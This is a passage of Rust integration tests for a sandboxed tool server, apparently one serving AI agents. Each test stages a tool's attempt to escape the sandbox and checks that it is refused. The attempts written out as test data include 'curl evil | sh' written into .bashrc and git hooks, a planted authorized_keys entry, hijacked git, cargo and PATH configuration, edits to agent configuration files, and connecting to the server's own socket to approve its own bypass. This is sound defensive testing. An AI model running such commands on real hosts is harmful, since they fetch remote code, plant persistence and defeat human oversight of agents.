//! The filesystem view (docs/policy-format.md, "Protected paths", issue 24) over the socket: each test is
//! an attack a sandboxed tool makes, against the real binary and kernel. The
//! tests run as root, and in the workspace (an id-mapped writable rule) a
//! root server's tools are its owners (docs/containment.md, "A root server's
//! tools"), so DAC refuses nothing there: each refusal is the view's (EROFS:
//! read-only mount; EBUSY: a mount point) or Landlock's (EACCES).
//!
//! Without the view (`TOOLSRV_VIEW=off`, or the code before issue 24) the
//! attacks of the first tests succeed: Landlock has no right for metadata,
//! for connecting to a pathname socket, or for a `cwd` inside a protected
//! path that `{CWD}` then grants. The last test pins down that fallback.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::procs_util::{call, load};
use crate::util::{toolsrv_bin, wait_until, Launch, Raw, Server, WAIT};

const SECRET: &str = "view-suite-secret-5a0e";

use crate::sandbox::refused;

/// A result's text and whether it is an error.
pub(crate) fn out(r: &Value) -> (bool, String) {
    (
        r["isError"] == true,
        r["content"][0]["text"]
            .as_str()
            .unwrap_or_default()
            .to_string(),
    )
}

/// Single-quoted for sh.
pub(crate) fn q(p: &Path) -> String {
    format!("'{}'", p.display().to_string().replace('\'', r"'\''"))
}

/// A canonical temporary directory.
pub(crate) fn tmp() -> (tempfile::TempDir, PathBuf) {
    let d = tempfile::tempdir().expect("tempdir");
    let p = std::fs::canonicalize(d.path()).expect("canonical");
    (d, p)
}

/// A server and a connection with the `shell` tool loaded for `a1`.
pub(crate) struct Session {
    pub(crate) srv: Server,
    pub(crate) c: Raw,
    token: Option<String>,
}

impl Session {
    pub(crate) fn no_auth(launch: Launch) -> Session {
        let srv = launch.arg("--no-auth").start();
        let mut c = srv.attached();
        load(&mut c, "a1", "shell");
        Session {
            srv,
            c,
            token: None,
        }
    }

    /// Runs `cmd` with the shell tool, in `cwd` when given.
    pub(crate) fn sh_in(&mut self, cmd: &str, cwd: Option<&str>) -> (bool, String) {
        let mut fields = vec![("tool", "shell"), ("agent", "a1"), ("command", cmd)];
        let token = self.token.clone();
        if let Some(t) = &token {
            fields.push(("token", t));
        }
        if let Some(d) = cwd {
            fields.push(("cwd", d));
        }
        out(&call(&mut self.c, &fields))
    }

    pub(crate) fn sh(&mut self, cmd: &str) -> (bool, String) {
        self.sh_in(cmd, None)
    }

    /// `cmd` must fail with a refusal.
    #[track_caller]
    fn refused(&mut self, cmd: &str) -> String {
        let (err, text) = self.sh(cmd);
        assert!(err && refused(&text), "{cmd}: {text}");
        assert!(!text.contains(SECRET), "{cmd}: {text}");
        text
    }

    /// `cmd` must succeed; its output.
    #[track_caller]
    pub(crate) fn ok(&mut self, cmd: &str) -> String {
        let (err, text) = self.sh(cmd);
        assert!(!err, "{cmd}: {text}");
        text
    }
}

/// (mode, mtime, uid) of `p`, not following a link.
fn meta(p: &Path) -> (u32, i64, u32) {
    let m = std::fs::symlink_metadata(p).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
    (m.permissions().mode(), m.mtime(), m.uid())
}

/// Attack (issue 24, critical): a root tool changes the mode, owner, times
/// and extended attributes of the server's socket and secret (making them
/// world-readable lets another local user approve the tool's bypass), and of
/// a file no rule grants. Landlock has no right for metadata.
///
/// Expected: every change fails (EROFS/EACCES); the host's files keep their
/// mode, owner and times. The socket and secret lie inside `{CWD}` here (the
/// harder case: a writable rule covers them), and the secret reads as empty.
#[test]
fn metadata_of_the_secret_the_socket_and_files_outside_every_rule_cannot_change() {
    let (_cwd_dir, cwd) = tmp();
    let (_out_dir, outside) = tmp();
    let file = outside.join("outside.txt");
    std::fs::write(&file, "outside").expect("outside file");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let secret = cwd.join("toolsrv.sock.secret");
    std::fs::write(&secret, SECRET).expect("secret");
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let sock = cwd.join("toolsrv.sock");
    let srv = Launch::new()
        .cwd(&cwd)
        .listen(&sock)
        .log(&outside.join("server.log"))
        .start();
    let (mut c, token) = srv.authed(SECRET);
    load(&mut c, "a1", "shell");
    let mut s = Session {
        srv,
        c,
        token: Some(token),
    };
    let targets = [sock.clone(), secret.clone(), file.clone()];
    let before: Vec<_> = targets.iter().map(|p| meta(p)).collect();
    for p in &targets {
        let p = q(p);
        for cmd in [
            format!("chmod 0666 {p}"),
            format!("chown 65534 {p}"),
            format!("touch -h -d 2001-01-01 {p}"),
            format!(
                "/usr/bin/python3 -c 'import os,sys; os.setxattr(sys.argv[1], \"user.x\", b\"1\", follow_symlinks=False)' {p}"
            ),
        ] {
            s.refused(&cmd);
        }
    }
    let after: Vec<_> = targets.iter().map(|p| meta(p)).collect();
    assert_eq!(before, after, "metadata changed");
    let (_, text) = s.sh("cat toolsrv.sock.secret; echo end");
    assert_eq!(text, "end\n", "the secret was readable");
    // Work in the cwd itself still works.
    assert_eq!(
        s.ok("echo hi > a.txt && chmod 600 a.txt && cat a.txt"),
        "hi\n"
    );
}

/// Attack (issue 24): a tool connects to its own server's socket (Landlock
/// ABI 7 does not restrict pathname Unix sockets), the first step of every
/// self-approval attack.
///
/// Expected: the connection is refused (the socket's name shows an empty
/// file: ECONNREFUSED), wherever the socket lies.
#[test]
fn a_tool_cannot_connect_to_its_own_servers_socket() {
    for inside in [false, true] {
        let (_cwd_dir, cwd) = tmp();
        let mut launch = Launch::new().cwd(&cwd);
        if inside {
            launch = launch.listen(&cwd.join("toolsrv.sock"));
        }
        let mut s = Session::no_auth(launch);
        let sock = s.srv.socket.clone();
        let cmd = format!(
            "/usr/bin/python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print(\"connected\")' {}",
            q(&sock)
        );
        let (err, text) = s.sh(&cmd);
        assert!(
            err && !text.contains("connected"),
            "inside={inside}: {text}"
        );
        assert!(
            text.contains("Connection refused") || refused(&text),
            "{text}"
        );
    }
}

/// A temporary `$HOME` holding `~/.ssh` (a key, `known_hosts`) and
/// `.bashrc`, without `~/.aws`; the server runs with `--cwd $HOME`.
struct Home {
    _dir: tempfile::TempDir,
    h: PathBuf,
}

fn home() -> Home {
    let (dir, h) = tmp();
    std::fs::create_dir(h.join(".ssh")).expect(".ssh");
    std::fs::write(h.join(".ssh/id_ed25519"), SECRET).expect("key");
    std::fs::write(h.join(".ssh/known_hosts"), "host-keys\n").expect("known_hosts");
    std::fs::write(h.join(".bashrc"), "# rc\n").expect("bashrc");
    std::fs::write(h.join("notes.txt"), "notes\n").expect("notes");
    Home { _dir: dir, h }
}

fn home_launch(h: &Path) -> Launch {
    let hs = h.display().to_string();
    Launch::new().cwd(h).env("HOME", &hs)
}

/// Attack (issue 24, high): with `--cwd $HOME`, a request with
/// `cwd=~/.ssh` got rwx on it through `{CWD}`. And `$HOME` itself became
/// read-only because the credential stores were carved out of it.
///
/// Expected: `cwd=.ssh` (and a directory inside it) is an error result
/// naming the protected path; `$HOME` stays fully writable around `~/.ssh`
/// and the missing `~/.aws` (create, remove, rename in `$HOME` itself);
/// the key never shows; `~/.aws` cannot be created with content; the shell
/// start-up file cannot be changed.
#[test]
fn with_cwd_home_credential_stores_stay_hidden_and_home_stays_writable() {
    let hm = home();
    let h = hm.h.clone();
    let mut s = Session::no_auth(home_launch(&h));
    for cwd in [".ssh", &h.join(".ssh").display().to_string()] {
        let (err, text) = s.sh_in("ls", Some(cwd));
        assert!(err, "cwd={cwd}: {text}");
        assert!(
            text.contains("is protected") && text.contains(".ssh"),
            "{text}"
        );
    }
    assert_eq!(
        s.ok("touch new.txt && mkdir d && mv new.txt d/ && rm -r d && cat notes.txt"),
        "notes\n"
    );
    let (_, text) = s.sh("cat .ssh/id_ed25519; ls -A .ssh; echo end");
    assert!(!text.contains(SECRET) && text.ends_with("end\n"), "{text}");
    s.refused("echo attacker-key > .ssh/authorized_keys");
    s.sh("mkdir -p .aws && echo key > .aws/credentials");
    s.refused("mv .ssh ssh2");
    s.refused("echo 'curl evil | sh' >> .bashrc");
    s.refused("rm .bashrc");
    assert!(!h.join(".ssh/authorized_keys").exists());
    assert!(!h.join(".aws/credentials").exists());
    assert_eq!(
        std::fs::read_to_string(h.join(".bashrc")).expect("bashrc"),
        "# rc\n"
    );
    // No placeholder: a missing store stays missing, a tool's goes to
    // quarantine.
    assert!(!h.join(".aws").exists());
}

/// Attack (issue 34, high): mounts sit on dentries. When the human's editor
/// (or `git config`) replaces a protected file by rename, the view's mount
/// on the old dentry goes with it, and a tool that was already running
/// could write the new file (on 8877a1f only the next run got a new view).
///
/// Expected: a background tool started before the replacement cannot write
/// the new `.bashrc` once the view has covered it again in place, which it
/// does within milliseconds of the rename (the time is printed).
#[test]
fn a_protected_file_replaced_on_the_host_stays_protected_for_a_running_tool() {
    let hm = home();
    let h = hm.h.clone();
    let mut s = Session::no_auth(home_launch(&h));
    let placed = |srv: &Server| {
        srv.log_text()
            .matches("protected what appeared on the host, in place")
            .count()
    };
    let script = "while [ ! -e go ]; do sleep 0.01; done; \
                  (echo evil >> .bashrc) 2>/dev/null && echo wrote > result || echo refused > result";
    let pid = crate::procs_util::bg(
        &mut s.c,
        &[("tool", "shell"), ("agent", "a1"), ("command", script)],
    )
    .expect("bg");
    let before = placed(&s.srv);
    std::fs::write(h.join(".bashrc.new"), "# rc, edited\n").expect("new rc");
    let renamed = Instant::now();
    std::fs::rename(h.join(".bashrc.new"), h.join(".bashrc")).expect("rename");
    assert!(
        wait_until(WAIT, || placed(&s.srv) > before),
        "the replaced file was not covered again: {}",
        s.srv.log_text()
    );
    eprintln!("covered again {:?} after the rename", renamed.elapsed());
    std::fs::write(h.join("go"), "").expect("go");
    assert!(
        wait_until(WAIT, || std::fs::read_to_string(h.join("result"))
            .is_ok_and(|t| t.ends_with('\n'))),
        "the background tool ({pid}) did not finish"
    );
    assert_eq!(
        std::fs::read_to_string(h.join("result")).expect("result"),
        "refused\n"
    );
    assert_eq!(
        std::fs::read_to_string(h.join(".bashrc")).expect("rc"),
        "# rc, edited\n"
    );
}

/// Attack (issue 34, high): the built-in policy grants the package caches
/// writable; a tool edits a cached crate's `build.rs` (cargo trusts an
/// unpacked crate once `.cargo-ok` is there), and the human's next offline
/// build of another project runs it unsandboxed.
///
/// Expected: the tool sees its edit (and the file it added) in this run and
/// the next, but the human's cache is unchanged: the cache is mounted
/// copy-on-write, its upper layer in the server's own state, which goes
/// when the server stops.
#[test]
fn a_tool_cannot_change_the_humans_package_cache() {
    let (_h, h) = tmp();
    let krate = h.join(".cargo/registry/src/index.crates.io-0/foo-1.0.0");
    std::fs::create_dir_all(&krate).expect("crate");
    std::fs::write(krate.join("build.rs"), "fn main() {}\n").expect("build.rs");
    std::fs::write(krate.join(".cargo-ok"), "{\"v\":1}").expect("ok");
    let (_c, cwd) = tmp();
    let hs = h.display().to_string();
    let mut s = Session::no_auth(Launch::new().cwd(&cwd).env("HOME", &hs));
    let b = krate.join("build.rs").display().to_string();
    let added = krate.join("new.rs").display().to_string();
    s.ok(&format!(
        "echo 'fn main() {{ std::process::Command::new(\"evil\"); }}' > '{b}' && echo x > '{added}'"
    ));
    assert!(s.ok(&format!("cat '{b}'")).contains("evil"));
    assert_eq!(s.ok(&format!("cat '{added}'")), "x\n");
    assert_eq!(
        std::fs::read_to_string(krate.join("build.rs")).expect("host build.rs"),
        "fn main() {}\n"
    );
    assert!(!krate.join("new.rs").exists());
    let layers = h.join(".cache/toolsrv/layers");
    assert!(layers.is_dir(), "no layer directory");
    s.srv.stop(libc::SIGTERM);
    assert!(
        wait_until(WAIT, || std::fs::read_dir(&layers)
            .map_or(true, |d| d.count() == 0)),
        "the server's cache layers stayed after it stopped"
    );
}

/// A rule that names a protected path (or a path inside it) grants it as
/// written: here `ro: ~/.ssh/known_hosts`.
///
/// Expected: `known_hosts` is readable (not writable); the key beside it is
/// not.
#[test]
fn a_rule_that_names_a_protected_path_grants_it() {
    let hm = home();
    let h = hm.h.clone();
    let (_p, pdir) = tmp();
    let policy = pdir.join("sandbox.yaml");
    let rules = serde_json::json!({
        "filesystem": {
            "ro": ["/etc", "{HOME}/.ssh/known_hosts"],
            "rox": ["/usr", "/bin", "/sbin", "/lib", "/lib64"],
            "rw": ["/dev/null"],
            "rwx": ["{CWD}"],
        },
        "advanced": {"add_exec": true},
    });
    std::fs::write(&policy, rules.to_string()).expect("policy");
    let ps = policy.display().to_string();
    let mut s = Session::no_auth(home_launch(&h).args(["--sandbox", &ps]));
    assert_eq!(s.ok("cat .ssh/known_hosts"), "host-keys\n");
    s.refused("echo x >> .ssh/known_hosts");
    let (_, text) = s.sh("cat .ssh/id_ed25519; echo end");
    assert!(!text.contains(SECRET), "{text}");
}

/// Attack (issue 24, high): the server's own executable lies in the
/// project it serves (`target/release/toolsrv`); a tool replaces it.
///
/// Expected: writing, removing or renaming it fails; it is unchanged.
#[test]
fn the_servers_own_executable_cannot_be_replaced() {
    let (_d, cwd) = tmp();
    let bin = cwd.join("toolsrv");
    std::fs::copy(toolsrv_bin(), &bin).expect("copy the binary");
    let before = std::fs::read(&bin).expect("read");
    let mut s = Session::no_auth(Launch::with_bin(&bin).cwd(&cwd));
    s.refused("echo pwned > toolsrv");
    s.refused("rm toolsrv");
    s.refused("mv toolsrv toolsrv.old");
    s.ok("cp toolsrv /dev/null && echo ok > other.txt");
    assert!(
        std::fs::read(&bin).expect("read") == before,
        "the binary changed"
    );
}

/// Issue 24: `toolsrv init --dir .toolsrv` inside a project, then `serve
/// --tools .toolsrv/tools --sandbox .toolsrv/sandbox.yaml`: with Landlock
/// carving, every tool lost the right to create files in the project root.
///
/// Expected: creating, removing and renaming in the project root works; the
/// policy stays readable and cannot be changed; no tool can be added.
#[test]
fn a_project_local_toolsrv_directory_leaves_the_project_writable() {
    let (_d, cwd) = tmp();
    let init = std::process::Command::new(toolsrv_bin())
        .args(["init", "--dir"])
        .arg(cwd.join(".toolsrv"))
        .output()
        .expect("toolsrv init");
    assert!(init.status.success(), "{init:?}");
    let policy = cwd.join(".toolsrv/sandbox.yaml").display().to_string();
    let tools = cwd.join(".toolsrv/tools").display().to_string();
    let mut s =
        Session::no_auth(
            Launch::new()
                .cwd(&cwd)
                .args(["--sandbox", &policy, "--tools", &tools]),
        );
    assert_eq!(
        s.ok("echo a > a.txt && mkdir sub && mv a.txt sub/ && cat sub/a.txt"),
        "a\n"
    );
    assert!(s.ok("cat .toolsrv/sandbox.yaml").contains("filesystem:"));
    let before = std::fs::read(cwd.join(".toolsrv/sandbox.yaml")).expect("policy");
    s.refused("printf 'filesystem:\\n  rwx: [\"/\"]\\n' > .toolsrv/sandbox.yaml");
    s.refused("echo 'command: id' > .toolsrv/tools/evil.yaml");
    s.refused("mv .toolsrv .old");
    assert_eq!(
        std::fs::read(cwd.join(".toolsrv/sandbox.yaml")).expect("policy"),
        before
    );
}

/// Control: a tool whose program lies outside every rule (granted by
/// `advanced.add_exec`, as the built-in policy does: `executable:
/// /opt/x/bin/tool`) still starts: the view is built from the rules, so the
/// server shows the tool's program in it, read-only, at its first call.
#[test]
fn a_tool_whose_program_lies_outside_every_rule_still_runs() {
    let (_i, bin) = tmp();
    let prog = bin.join("say");
    std::fs::copy("/bin/echo", &prog).expect("copy echo");
    let tool = format!(
        "description: says hi\nexecutable: {}\nparams:\n  word: {{type: string}}\n",
        prog.display()
    );
    let srv = Launch::new()
        .arg("--no-auth")
        .tools(&[("say.yaml", &tool)])
        .start();
    let mut c = srv.attached();
    load(&mut c, "a1", "say");
    for _ in 0..2 {
        let r = call(&mut c, &[("tool", "say"), ("agent", "a1"), ("word", "hi")]);
        let (err, text) = out(&r);
        assert!(!err && text.contains("hi"), "{r}");
    }
}

/// A script tool replaced by rename (`sed -i`, an editor's save) runs its
/// new version at the next call (on 8877a1f it failed for about 1.5 s with
/// `cannot start …: Permission denied`: the metadata reloaded at once, but
/// the sandbox still granted the old file).
#[test]
fn a_script_tool_replaced_by_rename_runs_at_once() {
    let script =
        |word: &str| format!("#!/bin/sh\n# ---\n# description: says a word\n# ---\necho {word}\n");
    let srv = Launch::new()
        .arg("--no-auth")
        .tools(&[("word", &script("one"))])
        .start();
    let mut c = srv.attached();
    load(&mut c, "a1", "word");
    let r = call(&mut c, &[("tool", "word"), ("agent", "a1")]);
    assert_eq!(out(&r), (false, "one\n".to_string()), "{r}");
    let dir = srv.tools_dir();
    for (i, word) in ["two", "three", "four"].iter().enumerate() {
        let tmp = dir.join(format!(".word.{i}"));
        std::fs::write(&tmp, script(word)).expect("new version");
        std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        std::fs::rename(&tmp, dir.join("word")).expect("rename");
        let r = call(&mut c, &[("tool", "word"), ("agent", "a1")]);
        assert_eq!(out(&r), (false, format!("{word}\n")), "{r}");
    }
}

/// Attack (issue 34): a `rox` rule names the tools directory inside
/// `{CWD}`; on 8877a1f naming it dropped its protection altogether and a
/// tool could `mv tools tools.moved` and put its own tools in place.
///
/// Expected: the rule grants what it says (the tools are readable and run),
/// the directory can neither be written, renamed nor removed, and the
/// workspace around it stays writable.
#[test]
fn a_protected_path_a_rule_names_stays_put() {
    let (_d, cwd) = tmp();
    let tools = cwd.join("tools");
    let (_p, pdir) = tmp();
    let policy = pdir.join("sandbox.yaml");
    let rules = serde_json::json!({
        "filesystem": {
            "ro": ["/etc"],
            "rox": ["/usr", "/bin", "/sbin", "/lib", "/lib64", "{CWD}/tools"],
            "rw": ["/dev/null"],
            "rwx": ["{CWD}"],
        },
        "advanced": {"add_exec": true},
    });
    std::fs::write(&policy, rules.to_string()).expect("policy");
    std::fs::create_dir(&tools).expect("tools");
    crate::procs_util::write_tool(
        &tools,
        "shell.yaml",
        "description: a shell\ncommand: \"sh -c {command}\"\nparams:\n  command:\n    type: string\n    required: true\n",
    );
    let launch = Launch::new().cwd(&cwd).args([
        "--sandbox",
        &policy.display().to_string(),
        "--tools",
        &tools.display().to_string(),
    ]);
    let mut s = Session::no_auth(launch);
    assert!(s.ok("ls tools").contains("shell"));
    s.refused("mv tools tools.moved");
    s.refused("echo 'command: evil' > tools/shell.yaml");
    s.refused("rm -r tools");
    assert!(tools.join("shell.yaml").exists() && !cwd.join("tools.moved").exists());
    assert_eq!(s.ok("echo a > a.txt && mv a.txt b.txt && cat b.txt"), "a\n");
}

/// Attack (issue 34, high; `--cwd $HOME`, `remote up --cwd ~`): the shell
/// start-up files were read-only, but a tool could write `~/.gitconfig`
/// (`core.pager`), `~/.config/autostart/x.desktop`, `~/.local/bin/git`
/// (first on Debian's `PATH`), `~/.cargo/config.toml` (`rustc-wrapper`),
/// `~/.config/pip/pip.conf`, `~/.vimrc`: each runs the tool's code or takes
/// its configuration when the human next uses the program.
///
/// Expected: each write fails and the files are unchanged; `~/bin` too;
/// ordinary files and directories of `$HOME` stay writable.
#[test]
fn a_writable_home_keeps_what_the_humans_programs_run() {
    let (_h, h) = tmp();
    for d in [
        ".config/autostart",
        ".config/pip",
        ".local/bin",
        ".cargo",
        "bin",
        "work",
    ] {
        std::fs::create_dir_all(h.join(d)).expect("dirs");
    }
    for f in [".gitconfig", ".vimrc", ".cargo/config.toml"] {
        std::fs::write(h.join(f), "# mine\n").expect("files");
    }
    let path = format!("{}/.local/bin:/usr/bin:/bin", h.display());
    let mut s = Session::no_auth(home_launch(&h).env("PATH", &path));
    for (what, cmd) in [
        (
            ".gitconfig",
            "printf '[core]\\n\\tpager = evil\\n' >> .gitconfig",
        ),
        (".vimrc", "echo '!evil' >> .vimrc"),
        (
            ".cargo/config.toml",
            "echo 'build.rustc-wrapper = \"evil\"' >> .cargo/config.toml",
        ),
        (".config/autostart", "echo x > .config/autostart/x.desktop"),
        (".config/pip", "echo '[global]' > .config/pip/pip.conf"),
        (".local/bin", "echo evil > .local/bin/git"),
        ("bin", "echo evil > bin/ls"),
    ] {
        let (err, text) = s.sh(cmd);
        assert!(err && refused(&text), "{what}: {cmd}: {text}");
    }
    for f in [".gitconfig", ".vimrc", ".cargo/config.toml"] {
        assert_eq!(
            std::fs::read_to_string(h.join(f)).expect("read"),
            "# mine\n",
            "{f}"
        );
    }
    for gone in [
        ".config/autostart/x.desktop",
        ".config/pip/pip.conf",
        ".local/bin/git",
        "bin/ls",
    ] {
        assert!(!h.join(gone).exists(), "{gone}");
    }
    assert_eq!(
        s.ok(
            "echo n > notes.txt && mkdir -p work/x && mv notes.txt work/x/ && cat work/x/notes.txt"
        ),
        "n\n"
    );
}

/// Attack (issue 24): a tool plants a `pre-commit` hook or sets
/// `core.hooksPath` / `core.fsmonitor` in the repository that holds its
/// `{CWD}`; it runs unsandboxed at the human's next `git commit`. Or it
/// renames `.git` away and makes a new one (renaming a directory that merely
/// contains a mount point is allowed by the kernel).
///
/// Expected: `git add` and `git commit` work inside the tool; the hooks
/// cannot be changed and the config keeps no key that runs a program, from
/// the repository root or from a
/// subdirectory; `mv .git .git2` fails (EBUSY); a nested repository found
/// below the workspace is protected the same way.
#[test]
fn repository_hooks_and_config_cannot_be_changed_but_git_works() {
    let (_d, repo) = tmp();
    let git = |args: &[&str], dir: &Path| {
        let o = std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .output()
            .expect("git");
        assert!(o.status.success(), "git {args:?}: {o:?}");
    };
    git(&["init", "-q"], &repo);
    std::fs::create_dir_all(repo.join("sub/nested")).expect("sub");
    git(&["init", "-q"], &repo.join("sub/nested"));
    let config_before = std::fs::read(repo.join(".git/config")).expect("config");
    let mut s = Session::no_auth(Launch::new().cwd(&repo));
    // (The server's $HOME is root's, unreadable to tools: git must not look.)
    let id = "-c user.name=t -c user.email=t@example.com";
    s.ok("true");
    assert!(
        s.ok(&format!("export HOME=/nonexistent-toolsrv-home; echo x > f.txt && git add f.txt && git {id} commit -qm one && git log --oneline | wc -l"))
            .contains('1')
    );
    s.refused("echo 'curl evil | sh' > .git/hooks/pre-commit");
    // `config` stays writable for git's lock and rename; what a tool adds
    // that runs a program is taken out again (issue 34, tests/leftovers.rs).
    for set in ["core.hooksPath /tmp", "core.fsmonitor 'curl evil'"] {
        let (_, text) = s.sh(&format!("HOME=/nonexistent-toolsrv-home git config {set}"));
        assert!(
            text.contains("is not allowed from a sandboxed tool"),
            "{set}: {text}"
        );
    }
    s.refused("mv .git .git2");
    s.refused("mv .git/hooks .git/hooks.old");
    s.refused("echo x > sub/nested/.git/hooks/post-checkout");
    let (err, text) = s.sh_in("echo x > ../.git/hooks/pre-push", Some("sub"));
    assert!(err && refused(&text), "{text}");
    assert_eq!(
        std::fs::read(repo.join(".git/config")).expect("config"),
        config_before
    );
    assert!(!repo.join(".git/hooks/pre-commit").exists());
    assert!(repo.join(".git").is_dir() && !repo.join(".git2").exists());
}

/// Attack (issue 24): agent configuration that other programs execute: a
/// tool adds an MCP server to `.mcp.json` or a hook to `.claude/`.
///
/// Expected: both fail; the rest of the project stays writable.
#[test]
fn agent_configuration_cannot_be_changed() {
    let (_d, cwd) = tmp();
    std::fs::write(cwd.join(".mcp.json"), "{}\n").expect(".mcp.json");
    let mut s = Session::no_auth(Launch::new().cwd(&cwd));
    s.refused("echo '{\"mcpServers\":{}}' > .mcp.json");
    s.refused("rm .mcp.json");
    // Missing ones do not survive a tool's creation (quarantined by the
    // server's guard; tests/leftovers.rs has the rest).
    s.sh("mkdir -p .claude && echo '{}' > .claude/settings.json");
    s.sh("mkdir -p .vscode && echo '{}' > .vscode/tasks.json");
    assert!(!cwd.join(".vscode").exists());
    s.ok("echo fine > fine.txt");
    assert_eq!(
        std::fs::read_to_string(cwd.join(".mcp.json")).expect("mcp"),
        "{}\n"
    );
    assert!(!cwd.join(".claude/settings.json").exists());
}

/// `filesystem.deny_read` / `deny_write` with globs, and a matching file
/// created after startup: it is protected from the next run that starts at
/// least 2 s after it appeared, without a scan per call.
#[test]
fn deny_read_and_deny_write_globs_cover_files_created_later() {
    let (_d, cwd) = tmp();
    std::fs::create_dir_all(cwd.join("a")).expect("a");
    std::fs::write(cwd.join("a/.env"), SECRET).expect(".env");
    std::fs::write(cwd.join("a/data.lock"), "locked\n").expect("lock");
    let (_p, pdir) = tmp();
    let policy = pdir.join("sandbox.yaml");
    let rules = serde_json::json!({
        "filesystem": {
            "ro": ["/etc"],
            "rox": ["/usr", "/bin", "/sbin", "/lib", "/lib64"],
            "rw": ["/dev/null"],
            "rwx": ["{CWD}"],
            "deny_read": ["{CWD}/**/.env"],
            "deny_write": ["{CWD}/**/*.lock"],
        },
        "advanced": {"add_exec": true},
    });
    std::fs::write(&policy, rules.to_string()).expect("policy");
    let ps = policy.display().to_string();
    let mut s = Session::no_auth(Launch::new().cwd(&cwd).args(["--sandbox", &ps]));
    let (_, text) = s.sh("cat a/.env; echo end");
    assert_eq!(text, "end\n");
    assert_eq!(s.ok("cat a/data.lock"), "locked\n");
    s.refused("echo x > a/data.lock");
    // Created later, on the host.
    std::fs::create_dir_all(cwd.join("b/c")).expect("b/c");
    std::fs::write(cwd.join("b/c/.env"), SECRET).expect("new .env");
    let appeared = Instant::now();
    let two = Duration::from_millis(2100);
    while appeared.elapsed() < two {
        std::thread::sleep(two - appeared.elapsed().min(two));
    }
    let (_, text) = s.sh("cat b/c/.env; echo end");
    assert_eq!(text, "end\n", "a .env created 2 s ago was readable");
    assert_eq!(
        std::fs::read_to_string(cwd.join("b/c/.env")).expect("env"),
        SECRET
    );
}

/// The fallback (`TOOLSRV_VIEW=off`, as on a host without mount namespaces
/// for the server): the startup log names Landlock-only protection, a `cwd`
/// in a protected path is still refused, and the server's own files under
/// `{CWD}` stay unreadable (carved). This is where the attacks above succeed
/// (metadata), which the log says.
#[test]
fn the_forced_fallback_carves_and_says_so() {
    let hm = home();
    let h = hm.h.clone();
    let mut s = Session::no_auth(home_launch(&h).env("TOOLSRV_VIEW", "off"));
    let log = s.srv.log_text();
    assert!(
        log.contains("Landlock only (TOOLSRV_VIEW=off)")
            && log.contains("carved out of every rule"),
        "{log}"
    );
    let (err, text) = s.sh_in("ls", Some(".ssh"));
    assert!(err && text.contains("is protected"), "{text}");
    let (err, text) = s.sh("cat .ssh/id_ed25519");
    assert!(err && text.contains("Permission denied"), "{text}");
    // What the fallback costs: $HOME, which holds carved paths, is list-only.
    let (err, text) = s.sh("touch new.txt");
    assert!(err && text.contains("Permission denied"), "{text}");
}

/// Where the view is in use, the startup log says so.
#[test]
fn the_startup_log_names_the_filesystem_mechanism() {
    let s = Session::no_auth(Launch::new());
    let log = s.srv.log_text();
    assert!(
        log.contains("filesystem protection") && log.contains("mount namespace"),
        "{log}"
    );
}

/// Attack (issue 24, medium): on a root server, `ro: [/etc]`-like rules
/// handed every root-only file in the directory to tools (beyond the dozen
/// names of the built-in list): a root tool reads them all.
///
/// Expected: a root-only file (owner root, no read bit for others) under an
/// `ro` directory rule cannot be read (tools run as an unprivileged id in
/// their own user namespace: "Permission denied"); a world-readable one
/// beside it and a root-only file that a rule names itself stay readable.
/// With `TOOLSRV_USERNS=root` (tools run as root, the fallback where no
/// user namespace can be made) the root-only scan hides it (it reads as
/// empty): [`root_only_files_are_hidden_by_the_scan_where_tools_run_as_root`].
#[test]
fn root_only_files_under_a_read_rule_are_hidden_unless_named() {
    root_only_files_under_a_read_rule(None);
}

/// The fallback of the test above: tools that run as root
/// (`TOOLSRV_USERNS=root`) read a root-only file as empty (the scan masks it).
#[test]
fn root_only_files_are_hidden_by_the_scan_where_tools_run_as_root() {
    root_only_files_under_a_read_rule(Some("root"));
}

fn root_only_files_under_a_read_rule(userns: Option<&str>) {
    // Safety: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        return;
    }
    let (_d, dir) = tmp();
    let ro = dir.join("conf");
    std::fs::create_dir(&ro).expect("conf");
    std::fs::set_permissions(&ro, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    for (name, text, mode) in [
        ("key", SECRET, 0o600),
        ("open.txt", "open\n", 0o644),
        ("named.key", "named\n", 0o600),
    ] {
        std::fs::write(ro.join(name), text).expect("write");
        std::fs::set_permissions(ro.join(name), std::fs::Permissions::from_mode(mode))
            .expect("chmod");
    }
    let policy = dir.join("sandbox.yaml");
    let rules = serde_json::json!({
        "filesystem": {
            "ro": ["/etc", ro.display().to_string(), ro.join("named.key").display().to_string()],
            "rox": ["/usr", "/bin", "/sbin", "/lib", "/lib64"],
            "rw": ["/dev/null"],
            "rwx": ["{CWD}"],
        },
        "advanced": {"add_exec": true},
    });
    std::fs::write(&policy, rules.to_string()).expect("policy");
    let ps = policy.display().to_string();
    let mut launch = Launch::new().args(["--sandbox", &ps]);
    if let Some(v) = userns {
        launch = launch.env("TOOLSRV_USERNS", v);
    }
    let mut s = Session::no_auth(launch);
    let k = q(&ro.join("key"));
    let (_, text) = s.sh(&format!("cat {k}; echo end"));
    if userns.is_some() {
        assert_eq!(text, "end\n", "a root-only file was readable");
    } else {
        assert!(
            !text.contains(SECRET) && text.contains("Permission denied"),
            "a root-only file was readable: {text}"
        );
    }
    assert_eq!(s.ok(&format!("cat {}", q(&ro.join("open.txt")))), "open\n");
    assert_eq!(
        s.ok(&format!("cat {}", q(&ro.join("named.key")))),
        "named\n"
    );
}

/// Under `general.best_effort: false`, a server that cannot make the
/// filesystem view (forced here with `TOOLSRV_VIEW=off`) refuses to start,
/// saying why.
#[test]
fn a_strict_policy_refuses_to_start_without_the_view() {
    let (_d, dir) = tmp();
    let policy = dir.join("sandbox.yaml");
    std::fs::write(&policy, "general:\n  best_effort: false\n").expect("policy");
    let out = std::process::Command::new(toolsrv_bin())
        .args(["serve", "--no-auth", "--idle-timeout", "1s", "--listen"])
        .arg(dir.join("s.sock"))
        .arg("--cwd")
        .arg(&dir)
